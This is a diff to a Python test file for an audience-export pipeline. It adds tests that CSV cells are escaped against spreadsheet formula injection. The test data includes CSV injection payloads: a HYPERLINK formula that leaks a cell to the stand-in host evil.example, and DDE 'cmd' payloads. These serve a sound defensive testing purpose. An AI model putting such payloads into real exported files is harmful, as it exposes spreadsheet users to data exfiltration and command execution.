@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import threading
 from datetime import UTC, datetime
@@ -157,12 +158,77 @@ def test_the_manifest_and_fixed_path_files_follow_the_current_snapshot(con, tmp_
         "segments": "3",
         "purchase_intent": "7",
     }
-    csv = (tmp_path / "audiences" / "win_back.csv").read_text().splitlines()
-    assert csv[0].startswith("user_key,reason,score") and csv[1].startswith("u_winback,")
+    lines = (tmp_path / "audiences" / "win_back.csv").read_text().splitlines()
+    # text cells are quoted (one cell whatever separator a spreadsheet guesses: test_csv_cells_...)
+    assert lines[0].startswith("user_key,reason,score") and lines[1].startswith('"u_winback",')
     for _ in range(publish.KEEP_SNAPSHOTS + 2):
         publish_snapshot(con, tmp_path)
     kept = [p for p in (tmp_path / "snapshots").iterdir()]
     assert len(kept) == publish.KEEP_SNAPSHOTS and current_snapshot(tmp_path) in kept
+
+
+HOSTILE_KEYS = {
+    "u_winback": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "u_cart": "+cmd|' /C calc'!A0",
+    "u_active": "-2+3",
+    "u_intent": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_escaped(con, tmp_path: Path) -> None:
+    """OWASP's CSV injection advice: a text cell starting with = + - @ tab or CR gets a leading single quote, and
+    text cells are quoted; the Parquet files (and the read API, which serves them) keep the raw values."""
+    for key, hostile in HOSTILE_KEYS.items():
+        con.execute("update user_profiles set user_key = ? where user_key = ?", [hostile, key])
+    con.execute("update user_profiles set segment_name = chr(9) || '=1+1;x' where segment_name = 'Buyers'")
+    con.execute("update user_profiles set segment_name = chr(13) || '=2' where segment_name = 'Intent shoppers'")
+    snapshot = publish_snapshot(con, tmp_path)
+    cells: dict[tuple[str, str], dict[str, str]] = {}  # (audience, user_key in the CSV) -> the CSV row
+    raw: dict[tuple[str, str], dict] = {}  # (audience, user_key) -> the Parquet row
+    for name in snapshot.audience_rows:
+        with (snapshot.path / "audiences" / f"{name}.csv").open(newline="") as fh:
+            cells |= {(name, row["user_key"]): row for row in csv.DictReader(fh)}
+        table = pq.read_table(snapshot.path / "audiences" / f"{name}.parquet")
+        raw |= {(name, row["user_key"]): row for row in table.to_pylist()}
+    escaped = {"'" + hostile for hostile in HOSTILE_KEYS.values()}
+    assert {key for _, key in cells} >= escaped, sorted(cells)  # every hostile id is in an audience, escaped
+    assert {key for _, key in raw} >= set(HOSTILE_KEYS.values())  # the Parquet files keep them raw
+    assert len(cells) == len(raw)
+    for (name, key), row in cells.items():
+        original = raw[name, key[1:] if key in escaped else key]
+        for column, value in row.items():
+            assert not value.startswith(publish.FORMULA_TRIGGERS), (name, column, value)
+            if isinstance(original[column], str):
+                assert value == publish.escape_formula(original[column]), (name, column, value)
+    assert {row["segment_name"] for row in cells.values()} >= {"'\t=1+1;x", "'\r=2"}
+    # a formula trigger inside a cell is left as it is
+    assert cells["cart_abandoners", "'" + HOSTILE_KEYS["u_cart"]]["reason"].startswith("cart abandoned; next: ")
+    text = (snapshot.path / "audiences" / "win_back.csv").read_text()
+    header, first = text.splitlines()[:2]
+    assert header == "user_key,reason,score,next_action,segment_name,user_type,intent_probability,as_of_date"
+    assert first.startswith('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",')
+
+
+@pytest.mark.parametrize(
+    ("cell", "escaped"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@x", "'@x"),
+        ("\tx", "'\tx"),
+        ("\r=1", "'\r=1"),
+        ("a=1", "a=1"),
+        (" =1", " =1"),
+        ("'=1", "'=1"),
+        ("", ""),
+        (None, None),
+    ],
+)
+def test_formula_escape_in_sql_and_python_agree(cell: str | None, escaped: str | None) -> None:
+    assert publish.escape_formula(cell) == escaped
+    [[from_sql]] = duckdb.execute(f"select {publish.csv_safe_sql('$cell')}", {"cell": cell}).fetchall()
+    assert from_sql == escaped
 
 
 def test_a_failed_publication_leaves_the_current_snapshot_untouched(con, tmp_path: Path, monkeypatch) -> None:
